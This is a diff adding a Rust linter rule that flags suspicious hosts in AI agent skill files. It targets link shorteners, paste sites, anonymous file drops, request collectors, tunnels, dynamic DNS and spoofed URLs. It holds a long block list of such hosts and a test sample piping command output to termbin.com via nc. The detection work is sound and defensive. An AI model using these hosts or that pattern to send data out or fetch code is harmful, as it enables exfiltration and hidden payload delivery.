@@ -1,0 +1,190 @@
+//! SKL538: hosts behind which anybody can stand.
+
+use crate::security::code_context::{self, Voice};
+use crate::rule::{Check, Example, Origin, Pattern, Rule, Severity};
+use crate::view::{Hit, LintFile};
+use crate::{FileView, Report};
+use crate::security::{hits, host, context_window};
+
+/// The rule.
+pub static RULE: Rule = Rule {
+    id: "SKL538",
+    name: "suspicious-host",
+    severity: Severity::Warning,
+    origin: Origin::Field("Snyk agent-scan E005, skillshare suspicious-url"),
+    why: "Link shorteners, paste sites, one-time file drops and request collectors hide who answers and who listens; skills that steal or load code use them.",
+    fix: "Write the address that is meant, at a host whose owner is known.",
+    params: &[],
+    patterns: &[
+        Pattern {
+            needles: &[
+                "bit.ly",
+                "tinyurl",
+                "://t.co/",
+                "goo.gl",
+                "://is.gd",
+                "://v.gd",
+                "ow.ly",
+                "buff.ly",
+                "rebrand.ly",
+                "cutt.ly",
+                "shorturl.at",
+                "rb.gy",
+                "tiny.cc",
+                "://t.ly",
+                "adf.ly",
+                "clck.ru",
+                "surl.li",
+                "shorte.st",
+                "pastebin",
+                "paste.ee",
+                "hastebin",
+                "rentry.",
+                "ghostbin",
+                "dpaste.",
+                "termbin",
+                "ix.io",
+                "sprunge.us",
+                "paste.rs",
+                "0bin.net",
+                "privatebin",
+                "controlc.com",
+                "justpaste.it",
+                "pastes.dev",
+                "transfer.sh",
+                "file.io",
+                "0x0.st",
+                "anonfiles",
+                "gofile.io",
+                "catbox.moe",
+                "temp.sh",
+                "bashupload",
+                "uguu.se",
+                "oshi.at",
+                "filebin.net",
+                "webhook.site",
+                "requestbin",
+                "pipedream.net",
+                "requestcatcher",
+                "beeceptor",
+                "hookbin",
+                "postb.in",
+                "interact.sh",
+                "oast.",
+                "oastify",
+                "burpcollaborator",
+                "canarytokens",
+                "dnslog.",
+                "ceye.io",
+                "ptsv2.com",
+                "ngrok.",
+                "ngrok-free",
+                "trycloudflare",
+                "serveo.net",
+                "localhost.run",
+                "loca.lt",
+                "lhr.life",
+                "bore.pub",
+                ".onion",
+                "duckdns.",
+                "no-ip.",
+                "ddns.net",
+                "hopto.org",
+                "zapto.org",
+                "://xn--",
+                ".xn--",
+            ],
+            regex: r"(?i-u)(?:\b(?:https?|wss?|ftp|tcp)://(?:[!-.0-?A-~]*@)?)?\b((?:[a-z0-9_-]+\.)*[a-z0-9-]+\.[a-z]{2,6})\b(?:[:/?][!#-&(-;=?-_a-~]*)?",
+        },
+        Pattern {
+            // The name before the `@` is the user's, and shows itself as the host.
+            needles: &[".com@", ".org@", ".net@", ".io@", ".dev@", ".ai@", ".com:443@"],
+            regex: r"(?i-u)\bhttps?://([a-z0-9.-]+\.[a-z]{2,6}(?::[0-9]+)?@[a-z0-9.-]+\.[a-z]{2,6})\b",
+        },
+    ],
+    good: &[Example::new(&[(
+        "SKILL.md",
+        crate::skill_md!("Long links are made short by `bitly` and others. See https://example.com/links.\n"),
+    )])],
+    bad: &[
+        Example::new(&[(
+            "SKILL.md",
+            crate::skill_md!("The template stands at https://bit.ly/3xYzAbC today.\n"),
+        )]),
+        Example::new(&[("SKILL.md", crate::skill_md!("```sh\nuptime | nc termbin.com 9999\n```\n"))]),
+    ],
+    check: Check::File(check),
+};
+
+/// What such hosts are, each with its names.
+const HOSTS: &[(&str, &str)] = &[
+    (
+        "a link shortener",
+        "bit.ly|tinyurl.com|t.co|goo.gl|is.gd|v.gd|ow.ly|buff.ly|rebrand.ly|cutt.ly|shorturl.at|rb.gy|tiny.cc|t.ly|adf.ly|clck.ru|surl.li|shorte.st",
+    ),
+    (
+        "a paste site",
+        "pastebin.com|paste.ee|hastebin.com|rentry.co|rentry.org|ghostbin.com|ghostbin.co|dpaste.com|dpaste.org|termbin.com|ix.io|sprunge.us|paste.rs|0bin.net|\
+         privatebin.net|privatebin.info|controlc.com|justpaste.it|pastes.dev",
+    ),
+    (
+        "an anonymous file drop",
+        "transfer.sh|file.io|0x0.st|anonfiles.com|gofile.io|catbox.moe|temp.sh|bashupload.com|uguu.se|oshi.at|filebin.net",
+    ),
+    (
+        "a request collector",
+        "webhook.site|requestbin.com|requestbin.net|pipedream.net|requestcatcher.com|beeceptor.com|hookbin.com|postb.in|interact.sh|oast.fun|oast.pro|oast.live|\
+         oast.site|oast.online|oast.me|oastify.com|burpcollaborator.net|canarytokens.com|dnslog.cn|dnslog.pw|ceye.io|ptsv2.com",
+    ),
+    (
+        "a host behind a name that anybody can move",
+        "duckdns.org|no-ip.org|no-ip.com|ddns.net|hopto.org|zapto.org|onion",
+    ),
+    (
+        "a tunnel to somebody's machine",
+        "ngrok.io|ngrok.app|ngrok.dev|ngrok-free.app|ngrok-free.dev|trycloudflare.com|serveo.net|localhost.run|loca.lt|lhr.life|bore.pub",
+    ),
+];
+
+fn check(view: &FileView<'_>, report: &mut Report<'_>) {
+    for hit in hits::meant(view.file, &RULE) {
+        let name = view.file.slice(&hit.span);
+        if name.contains('@') {
+            report.at(hit.span.clone(), format!("'{name}' shows another host than it leads to"));
+            continue;
+        }
+        if let Some(kind) = kind(name).filter(|_| is_address(view.file, hit)) {
+            report.at(hit.span.clone(), format!("'{name}' is {kind}"));
+        }
+    }
+}
+
+fn kind(name: &str) -> Option<&'static str> {
+    if name.split('.').any(|label| label.starts_with("xn--")) {
+        return Some("written in letters that may only look like those of another name");
+    }
+    let is_one = |names: &str| names.split('|').any(|listed| host::is_below(name, listed));
+    HOSTS.iter().find(|(_, names)| is_one(names)).map(|(kind, _)| *kind)
+}
+
+/// More than the name of a service: a scheme before it, a path after it, or a command around it.
+fn is_address(file: &LintFile, hit: &Hit) -> bool {
+    let Some(text) = file.text.as_deref() else { return false };
+    let has_scheme = text[..hit.span.start].ends_with("://");
+    let path = context_window::after(text, hit.span.end, 3);
+    let has_path = path
+        .strip_prefix('/')
+        .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_alphanumeric() || "$<{".contains(c)));
+    let is_home = has_scheme
+        && !has_path
+        && code_context::voice(file, hit.span.start) == Voice::Prose
+        && !name_has_part(text, hit);
+    let is_code = matches!(code_context::voice(file, hit.span.start), Voice::Block(_) | Voice::File(_));
+    (has_scheme && !is_home) || has_path || is_code
+}
+
+/// Whether the host begins with a name that somebody chose: `x7f3.oast.fun`.
+fn name_has_part(text: &str, hit: &Hit) -> bool {
+    let name = &text[hit.span.clone()];
+    name.split('.').count() > 2 && !name.starts_with("www.") && !name.starts_with("docs.")
+}
